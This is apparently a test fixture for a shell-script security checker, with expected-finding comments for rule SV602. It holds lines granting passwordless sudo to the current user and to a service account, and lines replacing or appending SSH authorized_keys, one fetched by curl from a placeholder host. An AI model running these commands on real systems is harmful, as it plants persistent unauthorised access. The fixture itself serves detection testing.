#!/usr/bin/env bash
# Grants go to the account and key the caller names: medium.
set -euo pipefail
cmd_sudo() {
  local username=""
  while [[ $# -gt 0 ]]; do
    case "$1" in
      --username) username="$2"; shift 2 ;;
      *) shift ;;
    esac
  done
  echo "${username} ALL=(ALL:ALL) ALL" > "/etc/sudoers.d/${username}" # want "medium SV602: .*rights for the account the script's arguments name"
}
cmd_key() {
  local username="" add="" file="" remove=""
  while [[ $# -gt 0 ]]; do
    case "$1" in
      --username) username="$2"; shift 2 ;;
      --add) add="$2"; shift 2 ;;
      --file) file="$2"; shift 2 ;;
      --remove) remove="$2"; shift 2 ;;
      *) shift ;;
    esac
  done
  local auth_keys="/home/${username}/.ssh/authorized_keys"
  echo "$add" >> "$auth_keys" # want "medium SV602: .*the key the script's arguments give"
  cat "$file" >> "$auth_keys" # want "medium SV602: .*the key file the script's arguments name"
  grep -v "$remove" "$auth_keys" > "${auth_keys}.tmp" || true
  mv "${auth_keys}.tmp" "$auth_keys"
}

# Look-alikes: the account or key is fixed by the script, or fetched.
echo "$(whoami) ALL=(ALL) NOPASSWD: ALL" | sudo tee /etc/sudoers.d/90-agent # want "critical SV602: .*granting lasting access$"
echo "svc-helper ALL=(ALL) NOPASSWD: ALL" > /etc/sudoers.d/svc # want "critical SV602: .*granting lasting access$"
curl -fsSL https://keys.example.invalid/ops.keys >> ~/.ssh/authorized_keys # want "critical SV602: .*granting lasting access$"
grep -v "old" /tmp/staged-keys > /tmp/k.tmp
mv /tmp/k.tmp ~/.ssh/authorized_keys # want "critical SV602: .*granting lasting access$"
